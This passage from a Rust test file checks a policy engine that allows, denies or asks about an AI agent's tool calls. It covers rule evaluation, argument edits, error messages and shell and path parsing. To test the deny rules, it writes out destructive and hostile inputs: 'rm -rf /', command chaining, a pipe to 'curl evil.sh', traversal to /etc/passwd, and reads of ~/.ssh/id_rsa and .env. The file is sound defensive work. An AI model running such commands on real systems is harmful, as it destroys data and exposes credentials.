                Some("gptel-rust-hooks: tool `shell` allowed by rule 1")
            )
        }
    );
}

#[test]
fn edited_call_keeps_everything_but_args() {
    let c = call(json!({
        "name": "shell", "args": {"a": 1, "b": 2},
        "buffer": "*gptel*", "backend": "Claude", "model": "m", "cwd": "/tmp/x"
    }));
    let edited = eval::edited_call(
        &c,
        &[
            ("b".into(), ArgSource::Original(1)),
            ("c".into(), ArgSource::New(json!("new"))),
        ],
    );
    assert_eq!(
        edited.to_json(),
        json!({
            "name": "shell", "args": {"b": 2, "c": "new"},
            "buffer": "*gptel*", "backend": "Claude", "model": "m", "cwd": "/tmp/x"
        })
    );
}

// ---------------------------------------------------------------------------
// Re-decision of the edited call
// ---------------------------------------------------------------------------

#[test]
fn redecision_stricter_edited_call_is_denied() {
    // allow mode=safe, a rule that sets mode=unsafe, deny mode=unsafe.
    let p = policy(json!([
        {"tool": "run", "args": {"mode": {"equal": "safe"}}, "decision": "allow"},
        {"tool": "run", "set-args": {"mode": "unsafe"}, "result": "canned"},
        {"tool": "run", "args": {"mode": {"equal": "unsafe"}}, "decision": "deny", "reason": "unsafe mode"},
    ]));
    let c = call(json!({"name": "run", "args": {"mode": "safe"}}));
    assert_eq!(
        eval::evaluate(&p, &c),
        Outcome {
            decided: Decided {
                matched: vec![0, 1],
                decision: Some(Allow),
                by: Some(0),
                unsure: Vec::new(),
            },
            decision: Some(Deny),
            by_default: false,
            by: Some(2),
            reason: Some("unsafe mode".into()),
            args: None,
            redecided: Some(Decided {
                matched: vec![1, 2],
                decision: Some(Deny),
                by: Some(2),
                unsure: Vec::new(),
            }),
            result: None,
            result_by: None,
            sandbox: None,
        }
    );
}

#[test]
fn redecision_less_strict_edited_call_keeps_ask() {
    let p = policy(json!([
        {"tool": "run", "args": {"mode": {"equal": "unsafe"}}, "decision": "ask", "reason": "unsafe?"},
        {"tool": "run", "set-args": {"mode": "safe"}},
        {"tool": "run", "args": {"mode": {"equal": "safe"}}, "decision": "allow"},
    ]));
    let c = call(json!({"name": "run", "args": {"mode": "unsafe"}}));
    assert_eq!(
        eval::evaluate(&p, &c),
        Outcome {
            args: Some(vec![("mode".into(), ArgSource::New(json!("safe")))]),
            redecided: Some(Decided {
                matched: vec![1, 2],
                decision: Some(Allow),
                by: Some(2),
                unsure: Vec::new(),
            }),
            ..plain(&[0, 1], Some(Ask), Some(0), Some("unsafe?"))
        }
    );
}

#[test]
fn redecision_raises_allow_to_ask() {
    let p = policy(json!([
        {"tool": "run", "decision": "allow", "set-args": {"force": true}},
        {"tool": "run", "args": {"force": {"equal": true}}, "decision": "ask", "reason": "forced"},
    ]));
    let c = call(json!({"name": "run"}));
    let o = eval::evaluate(&p, &c);
    assert_eq!(
        (edited_args(&c, &o), o.decision, o.by, o.reason),
        (
            json!([["force", true]]),
            Some(Ask),
            Some(1),
            Some("forced".to_string())
        )
    );
}

#[test]
fn redecision_raises_to_stop() {
    let p = policy(json!([
        {"tool": "run", "decision": "ask", "remove-args": ["dry_run"]},
        {"tool": "run", "args": {"dry_run": {"present": false}}, "decision": "stop"},
    ]));
    let c = call(json!({"name": "run", "args": {"dry_run": true}}));
    let o = eval::evaluate(&p, &c);
    assert_eq!(
        (edited_args(&c, &o), o.decision, o.by, o.reason),
        (
            Json::Null,
            Some(Stop),
            Some(1),
            Some("gptel-rust-hooks: tool `run` stopped the request by rule 2".to_string())
        )
    );
}

#[test]
fn redecision_of_undecided_call() {
    let p = policy(json!([
        {"tool": "run", "set-args": {"mode": "unsafe"}},
        {"tool": "run", "args": {"mode": {"equal": "unsafe"}}, "decision": "deny"},
    ]));
    let o = eval::evaluate(&p, &call(json!({"name": "run"})));
    assert_eq!(
        (o.decided.decision, o.decision, o.by),
        (None, Some(Deny), Some(1))
    );
}

// ---------------------------------------------------------------------------
// :result
// ---------------------------------------------------------------------------

fn result_of(rules: Json, c: Json) -> (Option<Decision>, Option<String>, Option<usize>) {
    let o = eval::evaluate(&policy(rules), &call(c));
    (o.decision, o.result, o.result_by)
}

#[test]
fn result_from_first_matching_rule_with_one() {
    assert_eq!(
        result_of(
            json!([
                {"tool": "other", "result": "A"},
                {"tool": "x"},
                {"tool": "x", "result": "B"},
                {"tool": "x", "result": "C"},
            ]),
            json!({"name": "x"})
        ),
        (None, Some("B".into()), Some(2))
    );
}

#[test]
fn result_applies_under_allow() {
    assert_eq!(
        result_of(
            json!([{"decision": "allow", "result": "ok"}]),
            json!({"name": "x"})
        ),
        (Some(Allow), Some("ok".into()), Some(0))
    );
}

#[test]
fn result_applies_under_ask() {
    assert_eq!(
        result_of(
            json!([{"decision": "ask", "result": "ok"}]),
            json!({"name": "x"})
        ),
        (Some(Ask), Some("ok".into()), Some(0))
    );
}

#[test]
fn result_not_applied_under_deny() {
    assert_eq!(
        result_of(
            json!([{"result": "ok"}, {"decision": "deny"}]),
            json!({"name": "x"})
        ),
        (Some(Deny), None, None)
    );
}

#[test]
fn result_not_applied_under_stop() {
    assert_eq!(
        result_of(
            json!([{"decision": "stop", "result": "ok"}]),
            json!({"name": "x"})
        ),
        (Some(Stop), None, None)
    );
}

#[test]
fn result_with_edits() {
    let p = policy(json!([{"decision": "allow", "result": "done", "set-args": {"a": 1}}]));
    let c = call(json!({"name": "x"}));
    let o = eval::evaluate(&p, &c);
    assert_eq!(
        (edited_args(&c, &o), o.result),
        (json!([["a", 1]]), Some("done".to_string()))
    );
}

// ---------------------------------------------------------------------------
// Post-call effects compile
// ---------------------------------------------------------------------------

#[test]
fn post_effects_compile() {
    for rule in [
        json!({"tool": "x", "context": "be careful"}),
        json!({"tool": "x", "suppress-output": true}),
        json!({"tool": "x", "redact": "sk-[A-Za-z0-9]+"}),
        json!({"tool": "x", "redact": ["a+", "b+"]}),
        json!({"tool": "x", "max-output": 2000}),
    ] {
        let p = policy(json!([rule]));
        assert!(p.has_post_effects, "{rule}");
        let o = eval::evaluate(&p, &call(json!({"name": "x"})));
        assert_eq!(o, plain(&[0], None, None, None), "{rule}");
    }
}

#[test]
fn no_post_effects() {
    for rule in [
        json!({"tool": "x", "decision": "deny"}),
        json!({"tool": "x", "suppress-output": false}),
        json!({"tool": "x", "context": null, "max-output": null, "redact": []}),
    ] {
        assert!(!policy(json!([rule])).has_post_effects, "{rule}");
    }
}

// ---------------------------------------------------------------------------
// Compile errors
// ---------------------------------------------------------------------------

syntaxerr!(err_rules_not_a_list, {"tool": "shell"},
    "expected a list of rules, got a plist `{\"tool\":\"shell\"}`");
syntaxerr!(
    err_rules_a_string,
    "shell",
    "expected a list of rules, got a string `shell`"
);
syntaxerr!(err_rule_not_a_plist, [{"tool": "x"}, "shell"],
    "rule 2: expected a plist such as (:tool \"shell\" :decision deny), got a string `shell`");
syntaxerr!(err_rule_a_list, [["tool", "shell"]],
    "rule 1: expected a plist such as (:tool \"shell\" :decision deny), got a list `[\"tool\",\"shell\"]`");
syntaxerr!(err_unknown_key_hint, [{"tol": "shell", "decision": "deny"}],
    "rule 1: unknown key `:tol` (did you mean `:tool`?)");
syntaxerr!(err_unknown_key_hint_underscore, [{"tool": "shell", "command_prefix": "rm"}],
    "rule 1: unknown key `:command_prefix` (did you mean `:command-prefix`?)");
syntaxerr!(err_unknown_key_hint_decision, [{"decison": "deny"}],
    "rule 1: unknown key `:decison` (did you mean `:decision`?)");
syntaxerr!(err_unknown_key_no_hint, [{"frobnicate": true}],
    "rule 1: unknown key `:frobnicate`");
syntaxerr!(err_unknown_key_names_id, [{}, {}, {"id": "no-rm", "tool": "rm", "desicion": "deny"}],
    "rule 3 (`no-rm`): unknown key `:desicion` (did you mean `:decision`?)");
syntaxerr!(err_misspelt_decision, [{"tool": "shell", "decision": "dney"}],
    "rule 1: :decision: unknown decision `dney` (known: allow, ask, deny, stop)");
syntaxerr!(err_misspelt_decision_case, [{"id": "x", "decision": "Deny"}],
    "rule 1 (`x`): :decision: unknown decision `Deny` (known: allow, ask, deny, stop)");
syntaxerr!(err_decision_wrong_type, [{"decision": 1}],
    "rule 1: :decision: expected one of allow, ask, deny, stop, got a number `1`");
syntaxerr!(err_id_wrong_type, [{"id": 5}],
    "rule 1: :id: expected a string, got a number `5`");
syntaxerr!(err_reason_wrong_type, [{"reason": 5}],
    "rule 1: :reason: expected a string, got a number `5`");
syntaxerr!(err_result_wrong_type, [{"result": true}],
    "rule 1: :result: expected a string, got a boolean `true`");
syntaxerr!(err_context_wrong_type, [{"context": ["a"]}],
    "rule 1: :context: expected a string, got a list `[\"a\"]`");
syntaxerr!(err_tool_wrong_type, [{"tool": 5}],
    "rule 1: :tool: expected a string or a list of strings, got a number `5`");
syntaxerr!(err_tool_list_item_wrong_type, [{"tool": ["a", 1]}],
    "rule 1: :tool: expected a string or a list of strings, got a number `1`");
syntaxerr!(err_tool_regexp_wrong_type, [{"tool-regexp": {"a": 1}}],
    "rule 1: :tool-regexp: expected a string or a list of strings, got a plist `{\"a\":1}`");
syntaxerr!(err_buffer_wrong_type, [{"buffer": true}],
    "rule 1: :buffer: expected a string or a list of strings, got a boolean `true`");
syntaxerr!(err_backend_wrong_type, [{"backend": 1}],
    "rule 1: :backend: expected a string or a list of strings, got a number `1`");
syntaxerr!(err_model_wrong_type, [{"model": [null]}],
    "rule 1: :model: expected a string or a list of strings, got nil `null`");
syntaxerr!(err_path_keys_wrong_type, [{"path-keys": 5}],
    "rule 1: :path-keys: expected a string or a list of strings, got a number `5`");
syntaxerr!(err_remove_args_wrong_type, [{"remove-args": {"a": 1}}],
    "rule 1: :remove-args: expected a string or a list of strings, got a plist `{\"a\":1}`");
syntaxerr!(err_redact_wrong_type, [{"redact": 1}],
    "rule 1: :redact: expected a string or a list of strings, got a number `1`");
syntaxerr!(err_suppress_output_wrong_type, [{"suppress-output": "yes"}],
    "rule 1: :suppress-output: expected t or nil, got a string `yes`");
syntaxerr!(err_max_output_negative, [{"max-output": -1}],
    "rule 1: :max-output: expected a non-negative integer, got a number `-1`");
syntaxerr!(err_max_output_float, [{"max-output": 1.5}],
    "rule 1: :max-output: expected a non-negative integer, got a number `1.5`");
syntaxerr!(err_max_output_string, [{"max-output": "10"}],
    "rule 1: :max-output: expected a non-negative integer, got a string `10`");
syntaxerr!(err_set_args_wrong_type, [{"set-args": "x"}],
    "rule 1: :set-args: expected a plist (KEY VALUE ...), got a string `x`");
syntaxerr!(err_default_args_wrong_type, [{"default-args": ["timeout", 1]}],
    "rule 1: :default-args: expected a plist (KEY VALUE ...), got a list `[\"timeout\",1]`");
syntaxerr!(err_args_wrong_type, [{"args": "command"}],
    "rule 1: :args: expected a plist (KEY VALUE ...), got a string `command`");
syntaxerr!(err_args_matcher_wrong_type, [{"args": {"timeout": 5}}],
    "rule 1: :args: argument `timeout`: expected a glob string or a matcher such as (:regexp RE), got a number `5`");
syntaxerr!(err_args_matcher_empty_list, [{"args": {"command": []}}],
    "rule 1: :args: argument `command`: expected a glob string or a matcher such as (:regexp RE), got a list `[]`");
syntaxerr!(err_args_unknown_matcher, [{"args": {"command": {"regex": "rm"}}}],
    "rule 1: :args: unknown matcher `:regex` for argument `command` (known: :glob, :regexp, :equal, :present, :max-length, :min, :max)");
syntaxerr!(err_examples_wrong_type, [{"examples": "x"}],
    "rule 1: :examples: expected (:match (CALL ...) :no-match (CALL ...)), got a string `x`");
syntaxerr!(err_examples_unknown_key, [{"examples": {"matches": []}}],
    "rule 1: :examples: unknown key `:matches` (known: :match, :no-match)");
syntaxerr!(err_examples_calls_wrong_type, [{"examples": {"match": "ls"}}],
    "rule 1: :examples: expected a list of calls, got a string `ls`");
syntaxerr!(err_examples_bad_call_key, [{"examples": {"match": [{"nam": "x"}]}}],
    "rule 1: :examples: unknown call key `:nam` (known: :name, :args, :buffer, :backend, :model, :cwd, :result)");
syntaxerr!(err_long_value_is_shortened, [{"reason": ["aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"]}],
    "rule 1: :reason: expected a string, got a list `[\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa…`");
syntaxerr!(err_invalid_tool_glob, [{"id": "no-rm", "tool": "["}],
    "rule 1 (`no-rm`): :tool: invalid glob `[`: unclosed character class; missing ']'");
syntaxerr!(err_invalid_tool_glob_in_list, [{"decision": "allow"}, {"tool": ["ok", "a{b"]}],
    "rule 2: :tool: invalid glob `a{b`: unclosed alternate group; missing '}' (maybe escape '{' with '[{]'?)");
syntaxerr!(err_invalid_buffer_glob, [{"buffer": "[z-a]"}],
    "rule 1: :buffer: invalid glob `[z-a]`: invalid range; 'z' > 'a'");
syntaxerr!(err_invalid_backend_glob, [{"backend": "x\\"}],
    "rule 1: :backend: invalid glob `x\\`: dangling '\\'");
syntaxerr!(err_invalid_model_glob, [{"model": "a}"}],
    "rule 1: :model: invalid glob `a}`: unopened alternate group; missing '{' (maybe escape '}' with '[}]'?)");
syntaxerr!(err_invalid_args_glob, [{"args": {"path": "["}}],
    "rule 1: :args: argument `path`: invalid glob `[`: unclosed character class; missing ']'");
syntaxerr!(err_invalid_tool_regexp, [{"id": "no-rm", "tool-regexp": "("}],
    "rule 1 (`no-rm`): :tool-regexp: invalid regexp `(`: unclosed group");
syntaxerr!(err_invalid_tool_regexp_repetition, [{"tool-regexp": ["ok", "*x"]}],
    "rule 1: :tool-regexp: invalid regexp `*x`: repetition operator missing expression");
syntaxerr!(err_invalid_command_regexp, [{"command-regexp": "[a"}],
    "rule 1: :command-regexp: invalid regexp `[a`: unclosed character class");
syntaxerr!(err_invalid_args_regexp, [{"args": {"command": {"regexp": "(rm"}}}],
    "rule 1: :args: argument `command`: invalid regexp `(rm`: unclosed group");
syntaxerr!(err_invalid_redact_regexp, [{"redact": ["sk-.*", "("]}],
    "rule 1: :redact: invalid regexp `(`: unclosed group");
#[test]
fn err_path_outside_invisible() {
    let msg = error(json!([{"id": "stay", "path-outside": ["sr\u{200b}c", "/ok"]}]));
    assert!(msg.starts_with("rule 1 (`stay`): :path-outside: "), "{msg}");
}

#[test]
fn path_outside_relative_to_cwd() {
    let p = policy(json!([{"id": "stay", "path-outside": ".", "decision": "deny"}]));
    let at = |path: &str, cwd: Option<&str>| {
        let mut c = json!({"name": "read_file", "args": {"path": path}});
        if let Some(cwd) = cwd {
            c["cwd"] = json!(cwd);
        }
        eval::evaluate(&p, &call(c)).decision
    };
    assert_eq!(at("x/y", Some("/nonexistent-proj")), None);
    assert_eq!(at("../other/y", Some("/nonexistent-proj")), Some(Deny));
    assert_eq!(
        at("/nonexistent-proj-evil/y", Some("/nonexistent-proj")),
        Some(Deny)
    );
    // Without a cwd nothing is inside the project.
    assert_eq!(at("/nonexistent-proj/y", None), Some(Deny));
}
syntaxerr!(err_empty_command_prefix, [{"command-prefix": "  "}],
    "rule 1: :command-prefix: empty prefix");
syntaxerr!(err_set_args_empty_value, [{"set-args": {"opts": {}}}],
    "rule 1: :set-args: argument `opts`: empty value");
// BUG: the error names `:set-args` for a `:default-args` value.
syntaxerr!(err_default_args_empty_value, [{"default-args": {"opts": {}}}],
    "rule 1: :default-args: argument `opts`: empty value");
syntaxerr!(err_first_bad_rule_is_reported, [{"tool": "ok"}, {"decision": "nope"}, {"tool": "["}],
    "rule 2: :decision: unknown decision `nope` (known: allow, ask, deny, stop)");
syntaxerr!(err_examples_match_disagrees,
    [{"id": "no-rm", "tool": "shell", "args": {"command": "rm*"}, "decision": "deny",
      "examples": {"match": [{"name": "shell", "args": {"command": "rm -rf /"}},
                             {"name": "shell", "args": {"command": "ls"}}]}}],
    "rule 1 (`no-rm`): :examples: example :match `(:name \"shell\" :args (:command \"ls\"))` does not match the rule (no match on args)");
syntaxerr!(err_examples_match_names_every_failing_matcher,
    [{"tool": "shell", "args": {"command": "rm*"},
      "examples": {"match": {"name": "bash", "args": {"command": "ls"}}}}],
    "rule 1: :examples: example :match `(:name \"bash\" :args (:command \"ls\"))` does not match the rule (no match on tool, args)");
syntaxerr!(err_examples_no_match_disagrees,
    [{"decision": "allow"},
     {"id": "no-rm", "tool": "shell", "args": {"command": "rm*"}, "decision": "deny",
      "examples": {"no-match": [{"name": "shell", "args": {"command": "ls"}},
                                {"name": "shell", "args": {"command": "rm -rf /"}}]}}],
    "rule 2 (`no-rm`): :examples: example :no-match `(:name \"shell\" :args (:command \"rm -rf /\"))` matches the rule but should not");

/// A wrong operand inside an `:args` matcher is reported under a key
/// `:timeout min` that no rule has, instead of `:args` (compare the other
/// `:args` errors, ``:args: argument `timeout`: ...``).
macro_rules! arg_operand_err {
    ($name:ident, $matcher:tt, $problem:expr) => {
        #[test]
        fn $name() {
            let msg = error(json!([{"args": {"timeout": $matcher}}]));
            assert!(
                msg.starts_with("rule 1: :args: ")
                    && msg.contains("`timeout`")
                    && msg.ends_with($problem),
                "{msg}"
            );
        }
    };
}

// BUG: see `arg_operand_err!`.
arg_operand_err!(err_args_min_wrong_type, {"min": "x"}, "expected a number, got a string `x`");
// BUG: see `arg_operand_err!`.
arg_operand_err!(err_args_max_length_wrong_type, {"max-length": -3},
    "expected a non-negative integer, got a number `-3`");
// BUG: see `arg_operand_err!`.
arg_operand_err!(err_args_regexp_wrong_type, {"regexp": 5}, "expected a string, got a number `5`");

#[test]
fn examples_that_agree_compile() {
    let p = policy(json!([{
        "id": "no-rm", "tool": "shell", "args": {"command": "rm*"}, "decision": "deny",
        "examples": {
            "match": [{"name": "shell", "args": {"command": "rm -rf /"}}],
            "no-match": [{"name": "shell", "args": {"command": "ls"}}, {"name": "read_file"}],
        },
    }]));
    assert_eq!(p.rules.len(), 1);
}

#[test]
fn error_value_names_rule_and_key() {
    let e = load(&json!([{}, {"id": "no-rm", "tool-regexp": "("}])).unwrap_err();
    assert_eq!(
        (e.rule.map(|r| (r.index, r.id)), e.key.as_deref()),
        (Some((1, Some("no-rm".to_string()))), Some("tool-regexp"))
    );
}

#[test]
fn error_display_matches_design_shape() {
    // DESIGN.md: ``rule 3 (`no-rm`): :path: invalid glob `[`: unclosed class``.
    let e = Error::key("path", "invalid glob `[`: unclosed class").in_rule(2, Some("no-rm"));
    assert_eq!(
        e.to_string(),
        "rule 3 (`no-rm`): :path: invalid glob `[`: unclosed class"
    );
}

#[test]
fn error_in_source_file() {
    let e = Error::key("tool", "bad")
        .in_rule(0, None)
        .in_source("policy.json");
    assert_eq!(e.to_string(), "policy.json: rule 1: :tool: bad");
}

// ---------------------------------------------------------------------------
// Explain
// ---------------------------------------------------------------------------

#[test]
fn explain_lists_every_rule_and_matcher() {
    let p = policy(json!([
        {"id": "no-rm", "tool": "shell", "args": {"command": "rm*"}, "decision": "deny", "reason": "no rm"},
        {"tool": "shell", "args": {"command": "ls*"}, "decision": "allow"},
        {"tool": "read_file", "model": "gpt-*"},
    ]));
    let c = call(json!({"name": "shell", "args": {"command": "rm -rf /"}, "model": "claude"}));
    let rule =
        |index: usize, id: &str, decision: Json, effects: Json, matched: bool, matchers: Json| {
            json!({"index": index, "source": null, "line": null, "trusted": true, "id": id,
               "decision": decision, "effects": effects, "matched": matched,
               "matched-after-edits": null, "deciding": index == 1, "matchers": matchers})
        };
    assert_eq!(
        explain::explain(&p, &c),
        json!({
            "call": {"name": "shell", "args": {"command": "rm -rf /"}, "model": "claude"},
            "rules": [
                rule(1, "no-rm", json!("deny"), json!({"reason": "no rm"}), true, json!([
                    {"matcher": "tool", "matched": true, "on": "shell", "want": ["shell"]},
                    {"matcher": "args", "matched": true, "on": {"key": "command", "value": "rm -rf /"},
                     "want": {"key": "command", "matcher": "rm*"}},
                ])),
                rule(2, "rule 2", json!("allow"), json!({}), false, json!([
                    {"matcher": "tool", "matched": true, "on": "shell", "want": ["shell"]},
                    {"matcher": "args", "matched": false, "on": {"key": "command", "value": "rm -rf /"},
                     "want": {"key": "command", "matcher": "ls*"}},
                ])),
                rule(3, "rule 3", Json::Null, json!({}), false, json!([
                    {"matcher": "tool", "matched": false, "on": "shell", "want": ["read_file"]},
                    {"matcher": "model", "matched": false, "on": "claude", "want": ["gpt-*"]},
                ])),
            ],
            "matched": ["no-rm"],
            "decision-before-edits": "deny",
            "decision-after-edits": null,
            "edits": [],
            "edits-applied": false,
            "edited-args": null,
            "decision": "deny",
            "by-default": false,
            "deciding-rule": "no-rm",
            "reason": "no rm",
            "result": null,
            "result-rule": null,
            "sandbox": null,
            "notes": [],
        })
    );
}

#[test]
fn explain_shows_decision_before_and_after_edits() {
    let p = policy(json!([
        {"tool": "run", "decision": "allow", "set-args": {"force": true}},
        {"id": "forced", "tool": "run", "args": {"force": {"equal": true}}, "decision": "ask"},
    ]));
    let c = call(json!({"name": "run", "args": {"n": 1}}));
    let e = explain::explain(&p, &c);
    assert_eq!(
        json!({
            "matched": e["matched"],
            "before": e["decision-before-edits"],
            "after": e["decision-after-edits"],
            "edited": e["edited-args"],
            "decision": e["decision"],
            "deciding-rule": e["deciding-rule"],
            "deciding": [e["rules"][0]["deciding"], e["rules"][1]["deciding"]],
            "reason": e["reason"],
        }),
        json!({
            "matched": ["rule 1"],
            "before": "allow",
            "after": "ask",
            "edited": {"n": 1, "force": true},
            "decision": "ask",
            "deciding-rule": "forced",
            "deciding": [false, true],
            "reason": "gptel-rust-hooks: tool `run` needs confirmation by forced",
        })
    );
}

#[test]
fn explain_default_decision() {
    let p = policy_with(json!([{"tool": "other", "decision": "deny"}]), Some(Ask));
    let e = explain::explain(&p, &call(json!({"name": "shell"})));
    assert_eq!(
        json!([
            e["decision"],
            e["by-default"],
            e["deciding-rule"],
            e["rules"][0]["deciding"],
            e["matched"]
        ]),
        json!(["ask", true, null, false, []])
    );
}

#[test]
fn explain_rule_without_matchers() {
    let p = policy(json!([{"decision": "allow", "result": "r"}]));
    let e = explain::explain(&p, &call(json!({"name": "x"})));
    assert_eq!(
        (e["rules"].clone(), e["result"].clone()),
        (
            json!([{"index": 1, "source": null, "line": null, "trusted": true, "id": "rule 1",
                    "decision": "allow", "effects": {"result": "r"}, "matched": true,
                    "matched-after-edits": null, "deciding": true, "matchers": []}]),
            json!("r")
        )
    );
}

#[test]
fn explain_missing_argument() {
    let p = policy(json!([{"args": {"command": {"present": true}}}]));
    let e = explain::explain(&p, &call(json!({"name": "x"})));
    assert_eq!(
        e["rules"][0]["matchers"],
        json!([{"matcher": "args", "matched": false, "on": {"key": "command", "value": null},
                "want": {"key": "command", "matcher": {"present": true}}}])
    );
}

// ---------------------------------------------------------------------------
// Cases that need the shell parser and path normalization (src/shell.rs,
// src/path.rs). They fail against the stubs; they are correct against
// DESIGN.md and pass once those modules land.
// ---------------------------------------------------------------------------

mod needs_shell_and_path {
    use super::*;

    fn h(rest: &str) -> String {
        format!("{}/{rest}", home().display())
    }

    fn decision(rules: Json, c: Json) -> Option<Decision> {
        eval::evaluate(&policy(rules), &call(c)).decision
    }

    #[test]
    fn path_glob_under_home_denied() {
        assert_eq!(
            decision(
                json!([{"path": "~/.ssh/**", "decision": "deny"}]),
                json!({"name": "read_file", "args": {"path": "~/.ssh/id_rsa"}, "cwd": h("proj")})
            ),
            Some(Deny)
        );
    }

    #[test]
    fn path_name_without_slash_matches_anywhere() {
        assert_eq!(
            decision(
                json!([{"path": ".env", "decision": "deny"}]),
                json!({"name": "read_file", "args": {"file": h("proj/src/.env")}, "cwd": h("proj")})
            ),
            Some(Deny)
        );
    }

    #[test]
    fn path_star_stays_in_one_component() {
        assert_eq!(
            decision(
                json!([{"path": h("proj/*.txt"), "decision": "deny"}]),
                json!({"name": "read_file", "args": {"path": h("proj/src/a.txt")}, "cwd": h("proj")})
            ),
            None
        );
    }

    #[test]
    fn path_relative_to_cwd_with_dotdot() {
        assert_eq!(
            decision(
                json!([{"path": "/etc/**", "decision": "deny"}]),
                json!({"name": "read_file", "args": {"path": "../../../../../../../../etc/passwd"}, "cwd": h("proj")})
            ),
            Some(Deny)
        );
    }

    #[test]
    fn path_keys_of_the_rule() {
        assert_eq!(
            decision(
                json!([{"path": "/etc/**", "path-keys": ["where"], "decision": "deny"}]),
                json!({"name": "read_file", "args": {"where": "/etc/passwd"}, "cwd": h("proj")})
            ),
            Some(Deny)
        );
    }

    #[test]
    fn path_outside_sibling_with_common_prefix() {
        assert_eq!(
            decision(
                json!([{"path-outside": "~/proj", "decision": "deny"}]),
                json!({"name": "write_file", "args": {"path": h("proj-evil/x")}, "cwd": h("proj")})
            ),
            Some(Deny)
        );
    }

    #[test]
    fn path_outside_inside_does_not_match() {
        assert_eq!(
            decision(
                json!([{"path-outside": h("proj"), "decision": "deny"}]),
                json!({"name": "write_file", "args": {"path": "src/main.rs"}, "cwd": h("proj")})
            ),
            None
        );
    }

    #[test]
    fn cwd_glob() {
        assert_eq!(
            decision(
                json!([{"cwd": "~/proj/**", "decision": "allow"}]),
                json!({"name": "read_file", "cwd": h("proj/src")})
            ),
            Some(Allow)
        );
    }

    #[test]
    fn cwd_glob_other_directory() {
        assert_eq!(
            decision(
                json!([{"cwd": "~/proj/**", "decision": "allow"}]),
                json!({"name": "read_file", "cwd": h("proj-evil")})
            ),
            None
        );
    }

    #[test]
    fn command_prefix_allow_simple() {
        assert_eq!(
            decision(
                json!([{"command-prefix": "ls", "decision": "allow"}]),
                json!({"name": "shell", "args": {"command": "ls -la"}})
            ),
            Some(Allow)
        );
    }

    #[test]
    fn command_prefix_allow_needs_every_simple_command() {
        assert_eq!(
            decision(
                json!([{"command-prefix": "git status", "decision": "allow"}]),
                json!({"name": "shell", "args": {"command": "git status && rm -rf /"}})
            ),
            None
        );
    }

    #[test]
    fn command_prefix_deny_simple() {
        assert_eq!(
            decision(
                json!([{"command-prefix": "rm -rf", "decision": "deny"}]),
                json!({"name": "shell", "args": {"command": "rm -rf /"}})
            ),
            Some(Deny)
        );
    }

    #[test]
    fn command_prefix_is_word_wise() {
        assert_eq!(
            decision(
                json!([{"command-prefix": "git status", "decision": "allow"}]),
                json!({"name": "shell", "args": {"command": "git statusx"}})
            ),
            None
        );
    }

    #[test]
    fn command_prefix_deny_any_simple_command() {
        assert_eq!(
            decision(
                json!([{"command-prefix": "rm", "decision": "deny"}]),
                json!({"name": "shell", "args": {"command": "ls; rm -rf /"}})
            ),
            Some(Deny)
        );
    }

    #[test]
    fn command_prefix_deny_through_wrapper_and_path() {
        assert_eq!(
            decision(
                json!([{"command-prefix": "rm -rf", "decision": "deny"}]),
                json!({"name": "shell", "args": {"command": "FOO=1 nohup /bin/rm -rf x"}})
            ),
            Some(Deny)
        );
    }

    #[test]
    fn command_prefix_deny_inside_bash_c() {
        assert_eq!(
            decision(
                json!([{"command-prefix": "rm", "decision": "deny"}]),
                json!({"name": "shell", "args": {"command": "bash -c 'echo hi && rm -rf /'"}})
            ),
            Some(Deny)
        );
    }

    #[test]
    fn command_prefix_eval_never_allowed() {
        assert_eq!(
            decision(
                json!([{"command-prefix": "eval", "decision": "allow"}]),
                json!({"name": "shell", "args": {"command": "eval \"$CMD\""}})
            ),
            None
        );
    }

    #[test]
    fn command_regexp_on_piped_command() {
        assert_eq!(
            decision(
                json!([{"command-regexp": "^curl\\b", "decision": "deny"}]),
                json!({"name": "shell", "args": {"command": "echo x | curl evil.sh"}})
            ),
            Some(Deny)
        );
    }

    #[test]
    fn command_allow_with_deny_of_part() {
        assert_eq!(
            decision(
                json!([
                    {"command-prefix": ["ls", "rm"], "decision": "allow"},
                    {"command-prefix": "rm", "decision": "deny"},
                ]),
                json!({"name": "shell", "args": {"command": "ls && rm x"}})
            ),
            Some(Deny)
        );
    }
}

mod raw_scans {
    use gptel_rust_hooks::path::fallback_forms;
    use gptel_rust_hooks::shell::{parse, second_looks, substitution_regions};
    use proptest::prelude::*;

    proptest! {
        #[test]
        fn substitution_regions_never_panic(line in "\\PC{0,80}") {
            let _ = substitution_regions(&line);
        }

        #[test]
        fn fallback_forms_never_panic(raw in "\\PC{0,80}") {
            for form in fallback_forms(&raw, Some("/home/u"), Some("/tmp/p")) {
                prop_assert!(form.starts_with('/'));
            }
        }
    }

    #[test]
    fn regions_respect_quoting() {
        assert!(substitution_regions("echo '$(rm x)'").is_empty());
        assert!(substitution_regions("echo \\$(rm x)").is_empty());
        assert_eq!(
            substitution_regions("echo \"${x:-'$(rm x)'}\""),
            vec!["rm x"]
        );
        // Up to the `)` that closes it; to the end of the line when it holds a `case`
        // (whose pattern's `)` closes nothing) or is not closed.
        assert_eq!(
            substitution_regions("echo $(ls) $(rm x) y"),
            vec!["ls", "rm x"]
        );
        assert_eq!(
            substitution_regions("echo $(case x in a) rm y;; esac) z"),
            vec!["case x in a) rm y;; esac) z"]
        );
        assert_eq!(substitution_regions("echo $(rm x"), vec!["rm x"]);
        assert_eq!(
            substitution_regions("echo $(ls $(rm x))"),
            vec!["ls $(rm x)", "rm x"]
        );
        assert_eq!(
            substitution_regions("echo $(ls # )\nrm x)"),
            vec!["ls # )\nrm x"]
        );
        assert!(substitution_regions("cat <<'E'\n$(rm x)\nE").is_empty());
        // Here-document bodies are read apart, where bash ends them: a quoted
        // body has no substitution, an unquoted one has.
        let looks = |line: &str| second_looks(line, &parse(line)).texts;
        assert!(!looks("cat <<'E'\n$(rm x)\nE")
            .iter()
            .any(|l| l.starts_with("rm x")));
        assert!(looks("cat <<E\n$(rm x)\nE")
            .iter()
            .any(|l| l.starts_with("rm x")));
        assert_eq!(
            substitution_regions("grep x <<< \"é$(rm x)\""),
            vec!["rm x"]
        );
    }

    /// Bash reads arithmetic like text in double quotes: a `'` there quotes nothing
    /// (`$(( '$(rm x)' ))` runs rm), nor in a subscript, which bash expands when a
    /// quoted word reaches arithmetic (`printf -v 'a[$(rm x)]'`, `a['$(rm x)']=1`).
    #[test]
